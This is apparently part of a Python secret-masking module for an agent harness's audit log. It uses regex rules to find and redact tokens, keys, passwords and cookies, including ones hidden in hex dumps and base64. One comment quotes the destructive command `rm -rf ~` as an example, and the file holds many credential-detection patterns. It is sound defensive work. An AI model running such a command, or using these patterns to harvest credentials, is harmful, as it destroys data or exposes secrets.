    """_hide_tokens for a run holding `*` lines: each stands for the line before it, as
    many times as the offsets around it say; where no offset says (od -An, hexdump -e),
    as many times as makes a whole token, if any (at least once)."""
    shown = _dump_shown(kind, reading, _STAR_COPIED.sub(r"\1\n\1\n", run.group()))
    if not (_near_whole(shown) or ("\x00" in shown and _near_whole(shown.replace("\x00", "")))):
        return  # (read in C, each `*` as one copy: no token nearly whole, no line is read)
    read, flexible = _starred_read(text, kind, reading, run)
    candidates = [read]
    shown = "".join(char for char, _, _ in read)
    for token in _TOKEN_IN_BYTES.finditer(shown) if flexible else ():
        for way in _repeated_wholes(shown, token, flexible):
            candidate = read
            for at, width, times in reversed(way):  # (the last first: the places before stay)
                candidate = candidate[:at] + candidate[at - width : at] * times + candidate[at:]
            candidates.append(candidate)
    if "\x00" in shown:  # (UTF-16 text: each character beside a NUL)
        candidates.append([byte for byte in read if byte[0] != "\x00"])
    for candidate in candidates:
        _hide_tokens(text, candidate, hidden)


MAX_WAYS = 8  # readings of a token's `*`s of no known count that make it whole, kept


def _repeated_wholes(
    shown: str, token: re.Match[str], flexible: list[tuple[int, int]]
) -> list[list[tuple[int, int, int]]]:
    """The ways the `*`s of no known count (`flexible`: where each stands, after its one
    copy, and the copy's width) inside `token` (in `shown`) may repeat their lines more
    for it to be whole: for each way, where and how many times more. A token holding
    two runs (`QQQ` and `xx`, written `Q*` and `x*`) may be made whole by more copies of
    either; which it was, the dump does not say, so each way is read (at most MAX_WAYS,
    the first in order) and each gives its marker."""
    prefix = token.group()[:4]
    missing = _AFTER_PREFIX[prefix] - (token.end() - token.start() - 4)
    if not 0 < missing <= MAX_MISSING:
        return []  # (a random token holds a run of 3 of one character once in 100 or so)
    spots = [(at, width) for at, width in flexible if token.start() + 4 < at <= token.end()]
    ways: list[list[tuple[int, int, int]]] = []
    for way in _spread(missing, spots):
        rest = shown[token.start() + 4 : token.end()]
        for at, width, times in reversed(way):
            at -= token.start() + 4
            rest = rest[:at] + rest[at - width : at] * times + rest[at:]
        if _whole_token(prefix, rest):
            ways.append(way)
            if len(ways) == MAX_WAYS:
                break
    return ways


def _spread(missing: int, spots: list[tuple[int, int]]) -> Iterator[list[tuple[int, int, int]]]:
    """Each way to add `missing` characters as copies at `spots` (where, a copy's width):
    [(where, width, copies), ...], the spots in order, no spot with none."""
    if missing == 0:
        yield []
        return
    for i, (at, width) in enumerate(spots):
        for times in range(1, missing // width + 1):
            for way in _spread(missing - width * times, spots[i + 1 :]):
                yield [(at, width, times), *way]


def _starred_token(match: re.Match[str]) -> str:
    """A token in characters hexdump's `"%_p"` wrote (`hr*\n_...`): each `*` line stands
    for the character before it, repeated at least once. A token they make whole is
    written whole, in one piece (the token rules then mask it)."""
    written = match.group()
    joined: list[str] = []
    where: list[int] = []
    flexible: list[tuple[int, int]] = []
    for part in _STAR_BREAK.finditer(written):
        chars = part.group(1)
        joined.append(chars)
        where.extend(range(part.start(1), part.end(1)))
        if part.group(2):
            joined.append(chars[-1])
            where.append(part.end(1) - 1)
            flexible.append((len(where), 1))
    shown = "".join(joined)
    for token in _TOKEN_IN_BYTES.finditer(shown):
        rest = token.group()[4:]
        if not _whole_token(token.group()[:4], rest):
            ways = _repeated_wholes(shown, token, flexible)
            if not ways:
                continue
            for at, width, times in reversed(ways[0]):  # (the first way: see _hide_tokens)
                at -= token.start() + 4
                rest = rest[:at] + rest[at - width : at] * times + rest[at:]
        start, end = where[token.start()], where[token.end() - 1] + 1
        return f"{written[:start]}{token.group()[:4]}{rest}{written[end:]}"
    return written


_STAR_BREAK = re.compile(r"([A-Za-z0-9_-]++)(\*\r?+\n)?+")


def _starred_read(
    text: str, kind: str, reading: str, run: re.Match[str]
) -> tuple[list[_ReadByte], list[tuple[int, int]]]:
    """The bytes a run with `*` lines shows (as _hide_tokens reads them), and where a `*`
    of no known count stands in them (after its one copy, and the width of a copy)."""
    lines = list(_DUMP_LINES[kind].finditer(text, run.start(), run.end()))
    shown = [_dump_bytes(reading, line) for line in lines]
    offsets = [_OFFSET.match(line.group()) if kind in _OFFSET_KINDS else None for line in lines]
    base = _offset_base(lines, offsets, shown)
    read: list[_ReadByte] = []
    flexible: list[tuple[int, int]] = []
    for i, line in enumerate(lines):
        if i and shown[i - 1] and "*" in text[lines[i - 1].end() : line.start()]:
            copies = _repeats(base, offsets[i - 1], offsets[i], len(shown[i - 1]))
            end = lines[i - 1].end()
            for _ in range(min(copies or 1, MAX_REPEATS // len(shown[i - 1]) + 1)):
                read.extend((char, [], end) for char, _ in shown[i - 1])
            if copies is None:
                flexible.append((len(read), len(shown[i - 1])))
        read.extend((char, spans, line.end()) for char, spans in shown[i])
    return read, flexible


def _offset_base(
    lines: list[re.Match[str]], offsets: list[re.Match[str] | None], shown: list[list[Any]]
) -> int | None:
    """The base the run's offsets are written in (8, 16 or 10): the one in which each line
    starts where the one before it ends, and each `*` stands for whole lines; or None."""
    if any(offset is None for offset in offsets):
        return None
    for base in (8, 16, 10):
        try:
            at = [int(offset.group(1), base) for offset in offsets if offset is not None]
        except ValueError:
            continue
        if all(
            (at[i] - at[i - 1] == len(shown[i - 1]))
            if "*" not in lines[i - 1].string[lines[i - 1].end() : lines[i].start()]
            else _repeats(base, offsets[i - 1], offsets[i], len(shown[i - 1])) is not None
            for i in range(1, len(lines))
        ):
            return base
    return None


def _repeats(
    base: int | None, before: re.Match[str] | None, after: re.Match[str] | None, width: int
) -> int | None:
    """How many times a `*` repeats a line of `width` bytes, from the offsets around it."""
    if base is None or before is None or after is None or not width:
        return None
    gap = int(after.group(1), base) - int(before.group(1), base)
    return gap // width - 1 if gap % width == 0 and gap >= 2 * width else None


def _hide_tokens(
    text: str, run: list[tuple[str, list[tuple[int, int]], int]], hidden: dict[int, tuple[int, str]]
) -> None:
    """Each whole token `run` (a run of dump lines: each byte's character, the spans that
    show it, where its line ends) shows: its secret part's spans as `*`, its marker after
    the line where that part starts."""
    shown = "".join(char for char, _, _ in run)
    for token in _TOKEN_IN_BYTES.finditer(shown):
        prefix, rest = token.group()[:4], token.group()[4:]
        if not _whole_token(prefix, rest):
            continue
        body = token.start() + (13 if prefix == "hrn_" else 4)
        for _, spans, _ in run[body : token.end()]:
            for start, end in spans:
                hidden[start] = (end, "*" * (end - start))
        kind = "harness-token" if prefix == "hrn_" else "harness-oauth-token"
        line_end = run[body][2]
        if text[line_end - 1 : line_end] == "\r":
            line_end -= 1
        mark = marker(kind, shown[body : token.end()])
        until, written = hidden.get(line_end, (line_end, ""))  # (another reading's: both kept)
        if until == line_end and mark not in written:
            hidden[line_end] = (line_end, f"{written}  {mark}")


# A whole token base64-encoded (`kubectl get secret -o yaml`, an HTTP Basic header's
# `user:token`, base64 of JSON holding one), in the standard or the URL-safe alphabet, at
# any of the 3 alignments of its first byte in a group of 3: the base64 characters that
# only the prefix's bytes decide (`aHJvX` for hro_ at a group's start, `hyb1` one byte
# later, `ocm9f` two) are looked for, and the run of base64 they sit in is decoded from
# the group boundary they give; a whole token there (_whole_token) has the characters that
# encode its secret part replaced by the plain token's marker. So is one of UTF-16 text
# (`iconv -t UTF-16LE | base64`: a NUL beside each character, before or after it).
_PREFIX_BYTES = tuple(
    prefix.encode(encoding)
    for prefix in ("hro_", "hrr_", "hrn_")
    for encoding in ("latin-1", "utf-16-le", "utf-16-be")
)


def _base64_starts() -> dict[str, tuple[int, int]]:
    """What the base64 of each prefix holds whatever the bytes around it: that text, then
    (where the prefix's first byte is in its group of 3, that text's place in its group)."""
    starts = {}
    for prefix in _PREFIX_BYTES:
        for align in range(3):
            first = -(-8 * align // 6)  # (the characters it decides)
            end = (8 * align + 8 * len(prefix)) // 6
            encoded = base64.b64encode(bytes(align) + prefix + bytes(3)).decode()[first:end]
            for alphabet in (encoded, encoded.translate(_URL_SAFE)):
                starts[alphabet] = (align, first)
    return starts


# A token of UTF-16 text in bytes read as latin-1: little-endian (a NUL after each
# character) or big-endian (a NUL before each).
_UTF16_TOKEN_IN_BYTES = re.compile(
    r"h\x00r\x00[nor]\x00_\x00(?:[A-Za-z0-9_-]\x00)++|\x00h\x00r\x00[nor]\x00_(?:\x00[A-Za-z0-9_-])++"
)


def _whole_tokens_in_bytes(shown: str) -> list[tuple[str, str, int, int]]:
    """Each whole token in `shown` (bytes as latin-1, plain or UTF-16): its marker's kind,
    its secret part as text, and the bytes that hold that part (from, to)."""
    found = []
    for token in _TOKEN_IN_BYTES.finditer(shown):
        prefix, rest = token.group()[:4], token.group()[4:]
        if _whole_token(prefix, rest):
            body = 9 if prefix == "hrn_" else 0
            found.append((_token_kind(prefix), rest[body:], token.start() + 4 + body, token.end()))
    if "\x00" in shown:
        for token in _UTF16_TOKEN_IN_BYTES.finditer(shown):
            read = token.group().replace("\x00", "")
            prefix, rest = read[:4], read[4:]
            if _whole_token(prefix, rest):
                body = 4 + (9 if prefix == "hrn_" else 0)
                end = token.end()
                found.append((_token_kind(prefix), rest[body - 4 :], token.start() + 2 * body, end))
    return found


def _token_kind(prefix: str) -> str:
    return "harness-token" if prefix == "hrn_" else "harness-oauth-token"


_URL_SAFE = str.maketrans("+/", "-_")
_STANDARD = str.maketrans("-_", "+/")
_BASE64_STARTS = _base64_starts()
_BASE64_START = re.compile("|".join(map(re.escape, sorted(_BASE64_STARTS))))
# A run of base64 characters long enough to hold a token's (47 bytes: 63 characters), read
# from its first character only (linear time); or base64 wrapped in lines (`base64`'s 76
# characters a line, `openssl base64`'s and a PEM body's 64, `base64 -w N`), lines of 16
# characters or more (the last may be shorter), the line breaks as text holds them or
# JSON-escaped. (A token's base64 split by a line break, its prefix's text too, was kept.)
_B64 = "[A-Za-z0-9+/_-]"
_BASE64_BREAK = r"(?:\r?+\n|\\r\\n|\\n)[ \t]{0,16}+"
_BASE64_RUN = re.compile(
    rf"(?<!{_B64})(?={_B64}{{63}}|{_B64}{{16,}}+{_BASE64_BREAK}{_B64})"
    rf"{_B64}++(?:(?<={_B64}{{16}}){_BASE64_BREAK}{_B64}++)*+"
)
# Base64 wrapped narrower (`base64 -w 4` to `-w 15`): 5 lines or more of 4 to 15
# characters (a token's 63 need 5 of 15): _base64_runs keeps the lines of the first
# one's width (and a last one shorter).
_BASE64_NARROW_RUN = re.compile(
    rf"(?<!{_B64}){_B64}{{4,15}}+"
    rf"(?:{_BASE64_BREAK}{_B64}{{4,15}}+(?!{_B64})){{3}}(?:{_BASE64_BREAK}{_B64}{{1,15}}+(?!{_B64}))*+"
)
_BASE64_BREAKS = re.compile(_BASE64_BREAK)
_B64_LINE = re.compile(f"{_B64}++")
# The lines after the first of narrow base64: of its width, then one shorter (the last).
_NARROW_BASE64_LINES = {
    width: re.compile(
        rf"(?:{_BASE64_BREAK}{_B64}{{{width}}}(?!{_B64}))*+"
        rf"(?:{_BASE64_BREAK}{_B64}{{1,{width - 1}}}+(?!{_B64}))?+"
    )
    for width in range(4, 16)
}
# Where wrapped base64 may be: a line that ends in 16 base64 characters (or more); or 4
# lines of 4 to 15 after a line break (looked for from the break: the regex engine jumps
# from one to the next, where a search from every word took as long as the rest).
_BASE64_WRAPPED = re.compile(rf"(?<!{_B64}){_B64}{{16,}}+{_BASE64_BREAK}{_B64}")
_BASE64_NARROW = re.compile(
    rf"(?:\n|\\n)[ \t]{{0,16}}+(?:{_B64}{{4,15}}+{_BASE64_BREAK}){{3}}{_B64}{{4,15}}+(?!{_B64})"
)


def _may_hold_wrapped_base64(text: str) -> bool:
    """Whether `text` may hold base64 wrapped in lines (a line ending in 16 characters of
    it, then the next one's first; or 4 lines of 4 to 15 of them)."""
    return ("\n" in text or "\\n" in text) and (
        _BASE64_WRAPPED.search(text) is not None or _BASE64_NARROW.search(text) is not None
    )


def _base64_runs(text: str) -> list[tuple[int, str]]:
    """Each run of base64 in `text` (where it starts, its text): unbroken or wrapped in
    lines of 16 characters or more, and wrapped narrower, its lines of one width."""
    runs = [(run.start(), run.group()) for run in _BASE64_RUN.finditer(text)]
    narrow = _BASE64_NARROW.search(text) is not None
    for run in _BASE64_NARROW_RUN.finditer(text) if narrow else ():
        first = _B64_LINE.match(run.group())  # (the first line: its width)
        width = first.end() if first is not None else 0
        if width not in _NARROW_BASE64_LINES:
            continue
        lines = _NARROW_BASE64_LINES[width].match(text, run.start() + width)
        if lines is not None and lines.end() - run.start() >= 63:
            runs.append((run.start(), text[run.start() : lines.end()]))
    return runs


def _breaks(written: str) -> list[tuple[int, int]]:
    """Where each line break of a run of base64 is in the run joined, and how many
    characters were taken out up to its end (see _place)."""
    breaks, taken = [], 0
    for brk in _BASE64_BREAKS.finditer(written):
        breaks.append((brk.start() - taken, taken + brk.end() - brk.start()))
        taken += brk.end() - brk.start()
    return breaks


def _place(breaks: list[tuple[int, int]], start: int, i: int) -> int:
    """Where character i of a run of base64 joined (its line breaks taken out; `breaks`:
    where each was in the joined run, and how many characters were taken out up to its
    end) is in the text, the run starting at `start`."""
    at = bisect.bisect_right(breaks, (i, math.inf)) - 1
    return start + i + (breaks[at][1] if at >= 0 else 0)


class _Base64Rule(_Rule):
    """Whole tokens in base64 (above): the characters of their secret part as a marker. A
    run of base64 (its line breaks taken out) is decoded (in C) once for each group
    boundary a prefix's text in it gives (at most 4), and read for whole tokens."""

    def applies(self, found: _Literals) -> bool:
        if super().applies(found):
            return True
        text = found.texts[0]  # (a prefix's text may be split by a line break)
        return _may_hold_wrapped_base64(text)

    def apply(self, text: str) -> str:
        hidden: list[tuple[int, int, str]] = []
        for run_start, written in _base64_runs(text):
            breaks: list[tuple[int, int]] = []  # (see _place; made when a token is found)
            chars = written
            if "\n" in chars or "\\" in chars:
                chars = _BASE64_BREAKS.sub("", chars)
            if len(chars) < 63:
                continue
            shifts = {
                (found.start() - _BASE64_STARTS[found.group()][1]) % 4
                for found in _BASE64_START.finditer(chars)
            }
            for shift in sorted(shifts):
                part = chars[shift:]
                part = part[: len(part) - (len(part) % 4 == 1)].translate(_STANDARD)
                shown = base64.b64decode(part + "=" * (-len(part) % 4)).decode("latin-1")
                for kind, secret, body, token_end in _whole_tokens_in_bytes(shown):
                    if not breaks and len(chars) != len(written):
                        breaks = _breaks(written)
                    mark = marker(kind, secret)
                    # (byte i is in the characters from shift + 8i // 6; line breaks kept)
                    first, last = shift + 8 * body // 6, shift - (-8 * token_end // 6) - 1
                    start = _place(breaks, run_start, first)
                    end = _place(breaks, run_start, last) + 1
                    kept = "".join(_BASE64_BREAKS.findall(text, start, end))
                    hidden.append((start, end, mark + kept))
        out: list[str] = []
        done = 0
        for start, end, mark in sorted(hidden):
            if start >= done:
                out += [text[done:start], mark]
                done = end
        if not out:
            return text
        out.append(text[done:])
        return "".join(out)


def _caret_nul_token(match: re.Match[str]) -> str:
    """A token of UTF-16 text as `cat -A` (or `cat -v`) shows it, each NUL byte beside a
    character as `^@` (`h^@r^@o^@_^@...`): its secret part as the plain token's marker,
    when it is whole (_whole_token)."""
    prefix, rest = match.group(1).replace("^@", ""), match.group("v").replace("^@", "")
    if not _whole_token(prefix, rest):
        return match.group(0)
    keep = 3 * 9 if prefix == "hrn_" else 0  # (hrn_'s 8 hex digits and "_", as written)
    return (
        match.group(1)
        + match.group("v")[:keep]
        + _masked_token(prefix, rest)[len(prefix) + keep // 3 :]
    )


# Applied to every string in the payload, in this order. Each pattern starts with a
# literal (or a letter in either case) and checks what precedes it with a lookbehind.
RULES: list[_Rule] = [
    # Dumps of a file holding a token (above): first, while its columns are as written.
    _DumpRule(r"(?!)", str, _DUMP_NEEDS),
    _Rule(r"(h\^@r\^@[nor]\^@_\^@)(?P<v>(?:[A-Za-z0-9_-]\^@)++)", _caret_nul_token, ("h^@r^@",)),
    # Whole tokens in base64 (above): before the rules that mask a Basic header as a whole.
    _Base64Rule(r"(?!)", str, tuple(_BASE64_STARTS)),
    # hexdump -e '"%_p"': a token's characters, a `*` line for each repeated one.
    # (the last `*` may end the run: a token whose last character is doubled, `...Bu*\n.`)
    _Rule(r"[A-Za-z0-9_-]++(?:\*\r?+\n[A-Za-z0-9_-]*+)++", _starred_token, ("*\n",)),
    # Harness's tokens split by a line break, and run into a word (see above): first, so
    # no other rule masks a part of one and leaves the rest.
    _SplitTokenRule(
        r"(?!)",
        str,
        ("hro_", "hrr_", "hrn_", *_ESCAPE_NEEDS)
        + ("h\n", "hr\n", "ro\n", "rr\n", "rn\n", "h=\n", "hr=\n", "ro=\n", "rr=\n", "rn=\n")
        + ("h\r", "hr\r", "ro\r", "rr\r", "rn\r", "h\\", "hr\\", "ro\\", "rr\\", "rn\\")
        + ("h=\\", "hr=\\", "ro=\\", "rr=\\", "rn=\\"),
    ),
    _Rule(
        r"(?<=\w)(h"  # (a letter, so no \b: the first letter as it is)
        + "".join(_escapable(c) for c in ("r", "[nor]", "_"))
        + r")(?P<v>"
        + _TOKEN_CHAR
        + "{43,52}+)(?!"
        + _TOKEN_CHAR
        + ")",
        _run_token,
        ("hro_", "hrr_", "hrn_", "hr\\", "h\\", "h&", "hr&", "h%", "hr%"),
    ),
    # PEM and OpenSSH private keys: the body between the markers (also cut short: then up
    # to the next "-----" or the end of the JSON string), when it is only a key; the
    # markers stay. The body never crosses an unescaped quote.
    _Rule(
        r"-----BEGIN [A-Z0-9 ]{0,40}PRIVATE KEY-----(?P<v>(?:[^-\"\\]++|\\.|-(?!----))*+)"
        r"(?:-----END [A-Z0-9 ]{0,40}PRIVATE KEY-----)?",
        _masking("private-key", is_key_body),
        ("-----BEGIN",),
    ),
    # "password": "..." inside JSON text (raw arguments, tool output), under every key
    # name SECRET_KEY reads as a secret too; white space in the value (escaped or not) is
    # masked with it, as under a payload's own key.
    _Rule(
        r'(?P<name>"[\w.-]'
        + f"{{1,{MAX_NAME}}}+"
        + _JSON_KEY_ENDS
        + r'"\s{0,16}+:\s{0,16}+)(?P<v>(?P<dq>")(?:[^"\\\n]++|\\.)++")',
        _masking(_kind_of_name, is_json_secret_value, _json_secret),
        (*_SECRET_WORDS, "auth", "credential", "private", "cookie", "session"),
        folded=True,
    ),
    # The same in JSON text inside a JSON string (`write_file` of a config.json: the call's
    # raw arguments hold {\"password\": \"hunter 2\"}): the value's tokens are the escapes
    # of the outer string (`\n`, `\u00e9`) and those of the inner one (`\\\\`, `\\\"`,
    # `\\n`), so it ends at the first `\"` that is neither; its secret is read through both.
    _Rule(
        r'(?P<name>\\"[\w.-]'
        + f"{{1,{MAX_NAME}}}+"
        + _JSON_KEY_ENDS
        + r'\\"\s{0,16}+:\s{0,16}+)'
        + r'(?P<v>(?P<esc>\\")(?:[^"\\\n]++|\\[^"\\]|\\\\(?:\\\\|\\"|[^"\\]))++\\")',
        _masking(_kind_of_name, is_nested_json_secret_value, _nested_json_secret),
        (*_SECRET_WORDS, "auth", "credential", "private", "cookie", "session"),
        folded=True,
    ),
    # A number or a list of literals under such a key in JSON text (`"pin": 482913`,
    # `"api_keys": ["a", "b"]`, a config file an agent writes, a tool's output): each
    # literal masked as under a payload's own key (a number becomes a quoted marker, so
    # the text stays JSON); true, false and null are kept, a nested list or object too.
    _Rule(
        r'(?P<name>"[\w.-]'
        + f"{{1,{MAX_NAME}}}+"
        + _JSON_KEY_ENDS
        + r'"\s{0,16}+:\s{0,16}+)(?P<v>'
        + _JSON_NUMBER
        + r"|\[\s{0,16}+(?:"
        + _JSON_LITERAL
        + r"(?:\s{0,16}+,\s{0,16}+"
        + _JSON_LITERAL
        + r")*+)?+\s{0,16}+\])",
        lambda match: (
            match.group("name")
            + _JSON_ITEM.sub(
                functools.partial(_masked_json_item, _kind_of_name(match)), match.group("v")
            )
        ),
        (*_SECRET_WORDS, "auth", "credential", "private", "cookie", "session"),
        folded=True,
    ),
    # Cookie: a=1; sessionid=xyz (a header, in text or JSON text): each cookie's value,
    # when it is one literal word (the `;` between cookies is no shell syntax).
    _Rule(
        r"""(?P<head>[cC](?<=\b[cC])(?i:ookie)"?\s{0,4}+:\s{0,4}+"?)(?P<pairs>[^"\n\\]++)""",
        lambda match: match.group("head") + mask_cookie_pairs(match.group("pairs")),
        ("cookie",),
        folded=True,
    ),
    # Authorization: Bearer xyz / Basic xyz / token xyz (headers, curl -H ...).
    _Rule(
        r"(?P<scheme>[bBtT](?<=\b[bBtT])(?i:earer|asic|oken)\s{1,16}+)"
        r"(?P<v>[A-Za-z0-9._~+/=-]{8,}+)",
        _credential,
        ("bearer", "basic", "token"),
        folded=True,
    ),
    # PASSWORD=..., api_key: ..., --token=..., DB_PASSWORD="a" (shell, env files,
    # config): a name holding a secret word, then = or :, then the value. The match starts
    # at the secret word; whatever precedes it in the name is left as it is. No space
    # after "=": in `TOKEN= rm -rf ~` the shell runs rm, which is no value.
    _Rule(
        r"(?P<name>"
        + _WORD
        + _NAME_TAIL
        + r"\s{0,4}+(?:=|:\s{0,4}+))"
        + _NOT_MASKED
        + f"(?P<v>{_VALUE})",
        _masking(_kind_of_name),
        _SECRET_WORDS,
        folded=True,
    ),
    # --password hunter2, --api-key KEY, -token T, "--password", "hunter2" (the value as a
    # separate argument; the option's name must end with the secret word).
    _Rule(
        r"(-(?<![\w-]-)-?[\w-]{1,64}+"
        + _ENDS_SECRET
        + _ARG_SEP
        + r")(?!-)"
        + _NOT_MASKED
        + f"(?P<v>{_ARG})",
        _masking(_kind_of_name),
        _SECRET_WORDS,
        folded=True,
    ),
    # mysql -pSECRET, sshpass -p SECRET, zip -P SECRET, curl -u user:SECRET.
    _Rule(
        r"(?P<command>" + _command_word(tuple(_SCOPED)) + r")(?P<rest>[^\n;|&]*+)",
        _command_arguments,
        tuple(_SCOPED),
    ),
    # scheme://user:password@host (database and broker URLs, git remotes).
    _Rule(
        r"(://(?<=[\w+.-]://)[^\s/:@\"'\\]{0,256}+:)"
        + _NOT_MASKED
        + r"(?P<v>[^\s/@\"'\\]{1,256}+)@",
        _masking("url-password"),
        ("://",),
    ),
    # Well-known key formats.
    _Rule(r"sk-(?<=\bsk-)(?P<v>(?:ant-|proj-)?[A-Za-z0-9_-]{16,}+)", _masking("api-key"), ("sk-",)),
    # Harness's own tokens: an agent's bearer token (hrn_, its 8-digit prefix kept) and
    # its OAuth access and refresh tokens (hro_, hrr_; agentauth.tokens), the prefix kept.
    # After a word boundary, or after a URL-encoded character (`%3D`: `=`, `%22`: `"`) or a
    # JSON escape (`\n`, `\u0022`), where there is none: a URL inside a URL, JSON text. Any
    # character of them may be a JSON escape itself (`hro\u005f...`, `\u0068rn_`, one per
    # level of JSON text inside JSON text: `\\u005f`): _HARNESS_TOKEN_CHARS.
    _Rule(
        _harness_token("hrn_") + _hex_digit() + "{8}+" + _escapable("_") + ")"
        r"(?P<v>" + _TOKEN_CHAR + "{16,}+)",
        _token_masking("harness-token"),
        ("hrn_", *_ESCAPE_NEEDS),
    ),
    _Rule(
        _harness_token("hr[or]_") + ")(?P<v>" + _TOKEN_CHAR + "{32,}+)",
        _token_masking("harness-oauth-token"),
        ("hro_", "hrr_", *_ESCAPE_NEEDS),
    ),
    _Rule(r"(?P<v>gh(?<=\bgh)[pousr]_[A-Za-z0-9]{30,}+)", _masking("github-token"), ("gh",)),
    _Rule(r"(?P<v>xox(?<=\bxox)[abprs]-[A-Za-z0-9-]{10,}+)", _masking("slack-token"), ("xox",)),
    _Rule(r"(?P<v>AKIA(?<=\bAKIA)[0-9A-Z]{16}\b)", _masking("aws-key"), ("AKIA",)),
    _Rule(
        r"(?P<v>eyJ(?<=\beyJ)[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+\.[A-Za-z0-9_-]{10,}+)",
        _masking("jwt"),
        ("eyJ",),
    ),
]


def _any_of(literals: set[str]) -> re.Pattern[str]:
    """Whether any of `literals` occurs, as one pattern: a trie (literals that share a
    first character share one branch), so that a position is tried once per character,
    not once per literal (this search runs on every text of every event)."""
    return re.compile(_trie(literals) if literals else r"(?!)")


def _trie(literals: set[str]) -> str:
    if "" in literals:
        return ""  # (a literal that ends here: the longer ones are not needed)
    branches = [
        re.escape(first) + _trie({word[1:] for word in literals if word[0] == first})
        for first in sorted({word[0] for word in literals})
    ]
    return branches[0] if len(branches) == 1 else "(?:" + "|".join(branches) + ")"


# Whether any rule can apply, in one pass over the text (and one over its lower case):
# most texts (ids, names, short paths) hold none of the rules' literals.
_PLAIN_NEEDS = _any_of({n for rule in RULES if not rule.folded for n in rule.needs})
_FOLDED_NEEDS = _any_of({n for rule in RULES if rule.folded for n in rule.needs})


class Masked(str):
    """Text that is already the audit copy (see `premask`): `mask_secrets` keeps it."""

    changed: bool

    def __new__(cls, text: str, changed: bool) -> Masked:
        instance = super().__new__(cls, text)
        instance.changed = changed
        return instance


def is_secret_key(key: str) -> bool:
    # (The same few keys come again and again: call_id, path, content. Long ones are not
    # kept: an agent's keys are its own, of any size.)
    return _is_secret_short(key) if len(key) <= 64 else _is_secret(key)


def _is_secret(key: str) -> bool:
    return _secret_name(key) is not None


def _secret_name(key: str) -> re.Match[str] | None:
    """SECRET_KEY's match in `key` read as written (lower-cased, "-" as "_"), else with its
    camelCase words apart ("clientSecret": client_secret), or None."""
    for name in (key, _CAMEL.sub("_", key)):
        match = SECRET_KEY.search(name.lower().replace("-", "_"))
        if match is not None:
            return match
    return None


_is_secret_short = functools.lru_cache(maxsize=4096)(_is_secret)


def mask_text(text: str) -> str:
    if isinstance(text, Masked):
        return text
    lowered = text.lower()
    if (
        _PLAIN_NEEDS.search(text) is None
        and _FOLDED_NEEDS.search(lowered) is None
        and not _may_hold_wrapped_base64(text)  # (a prefix's text split by a line break)
    ):
        return text  # no rule's literal: no rule applies
    found = _Literals(text, lowered)
    for rule in RULES:
        if rule.applies(found):
            masked = rule.apply(text)
            if masked != text:  # (what it holds now: the lower case as it was, as before)
                text, found = masked, _Literals(masked, lowered)
    return text


def premask(text: str) -> Masked:
    """The audit copy of one text, made ahead (before a transaction opens): an event
    payload holding it is stored as it is, with "masked": true when this changed it."""
    plain = storable(text)
    masked = mask_text(plain)
    return Masked(masked, changed=masked != plain)


def premask_arguments(text: str, arguments: dict[str, Any] | None) -> Masked:
    """The audit copy of a call's raw arguments, made ahead as `premask` makes one: read
    as what the tool gets (`arguments`, the text decoded) as well as as text. In JSON
    text a value's line breaks and quotes are escapes (`\\n`), so a text rule missed
    `DB_PASSWORD=...` on the second line of a file an agent writes; the decoded value is
    masked as any payload is (`mask_secrets`). When that masks something, the copy is the
    masked value as canonical JSON (a key the text repeats is kept once, as the tool
    gets it: the call's page shows the repeat); otherwise the text as `premask` masks it."""
    if arguments is None:
        return premask(text)
    plain = storable(arguments)
    masked = mask_secrets(plain)
    if masked == plain:
        return premask(text)
    copy = json.dumps(masked, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return Masked(copy, changed=True)


def mask_secrets(value: Any) -> Any:
    """A copy of a JSON-like `value` with secret-looking values replaced by markers
    (`[masked:KIND#HASH]`); words a shell or interpreter would run are never replaced."""
    if isinstance(value, dict):
        return {k: masked_item(str(k), v) for k, v in value.items()}
    if isinstance(value, list):
        return _mask_list(value)
    if isinstance(value, str):
        return mask_text(value)
    return value


def masked_item(key: str, value: Any) -> Any:
    """The value under `key`: when the key names a secret, every literal in it becomes a
    marker, white space and all (a text holding other shell or interpreter syntax stays);
    else its contents masked."""
    if is_secret_key(key) and value not in (None, ""):
        return _all_literals(value, _key_kind(key))
    return mask_secrets(value)


def _all_literals(value: Any, kind: str) -> Any:
    if isinstance(value, dict):
        return {k: _all_literals(v, kind) for k, v in value.items()}
    if isinstance(value, list):
        return [_all_literals(v, kind) for v in value]
    if isinstance(value, str):
        if value.startswith(MASK) or not is_secret_value(value):
            # (a Cookie header's value: `a=1; sessionid=xyz`, each cookie masked)
            return mask_text(mask_cookie_pairs(value) if kind == "cookie" else value)
        return marker(kind, value)
    if value is None or isinstance(value, bool):
        return value
    return marker(kind, json.dumps(value))


def _key_kind(key: str) -> str:
    match = _secret_name(key)
    word = match.group(2) if match else "secret"
    return {
        "passwd": "password",
        "pwd": "password",
        "pass": "password",
        "pass_word": "password",
        "apikey": "api_key",
    }.get(word, word).replace("_", "-")


def _mask_list(items: list[Any]) -> list[Any]:
    """Each item masked; an argument list (strings only) is also read as one command, so
    `["mysql", "-pSECRET"]` and `["--password", "hunter2"]` are caught across items."""
    masked = [mask_secrets(v) for v in items]
    if len(items) < 2 or not all(type(v) is str for v in items):
        return masked
    try:
        together = json.loads(mask_text(json.dumps(masked, ensure_ascii=False)))
    except ValueError:
        return masked
    if isinstance(together, list) and len(together) == len(items):
        return together
    return masked


def contains_masked(value: Any) -> bool:
    """Whether a pre-masked text inside `value` was changed by masking."""
    if isinstance(value, Masked):
        return value.changed
    if isinstance(value, dict):
        return any(contains_masked(v) for v in value.values())
    if isinstance(value, list):
        return any(contains_masked(v) for v in value)
    return False


def storable(value: Any) -> Any:
    """A copy that reads back from the database exactly as written, so its hash stays valid.

    PostgreSQL's jsonb refuses NUL characters and NaN/Infinity, turns 1e+20 into an
    integer and -0.0 into 0.0 (its numeric has no negative zero); such values are made
    plain here, before hashing. Pre-masked text is kept.
    """
    if isinstance(value, dict):
        return {storable(str(k)): storable(v) for k, v in value.items()}
    if isinstance(value, list):
        return [storable(v) for v in value]
    if isinstance(value, Masked):
        return value
    if isinstance(value, str):
        return value.replace("\x00", "\ufffd")
    if isinstance(value, float):
        if not math.isfinite(value):
            return str(value)
        if value.is_integer() and "e" in repr(value):
            return int(value)
        if value == 0:
            return 0.0  # (-0.0 == 0: both become 0.0)
    return value
